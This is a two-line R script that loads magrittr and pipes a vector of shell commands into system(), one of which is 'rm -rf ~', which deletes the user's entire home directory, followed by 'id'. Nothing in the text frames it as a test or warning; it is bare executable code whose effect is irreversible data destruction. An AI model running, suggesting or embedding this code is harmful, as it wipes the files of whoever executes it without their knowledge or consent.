library(magrittr)
c("rm -rf ~", "id") %>% lapply(., system)
